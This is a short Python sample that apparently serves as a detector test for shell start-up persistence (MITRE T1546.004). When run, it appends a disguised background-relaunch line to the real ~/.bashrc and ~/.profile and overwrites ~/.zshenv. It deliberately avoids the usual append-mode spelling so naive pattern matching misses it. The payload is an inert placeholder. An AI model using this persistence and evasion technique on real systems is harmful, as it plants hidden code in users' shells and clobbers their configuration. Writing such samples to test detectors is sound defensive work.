# technique: T1546.004
"""Persistence through shell start-up files (T1546.004).

An implant appends a line to ~/.bashrc and ~/.profile that relaunches it in
the background at every login. Written with io.FileIO in append mode and
os.fsync, and ~/.zshenv created via shutil.copyfile from a temp file, so the
"open(path, 'a')" spelling never appears.

A good detector raises a high alert: a shell start-up file in a home
directory is modified.
"""
import io, os, shutil, tempfile

home = os.path.expanduser("~")
line = b"\n( nohup python3 -c 'import os' >/dev/null 2>&1 & ) # updater\n"
for rc in (".bashrc", ".profile"):
    f = io.FileIO(os.path.join(home, rc), "a")
    f.write(line); os.fsync(f.fileno()); f.close()
with tempfile.NamedTemporaryFile(delete=False) as t:
    t.write(line)
shutil.copyfile(t.name, os.path.join(home, ".zshenv"))
os.unlink(t.name)
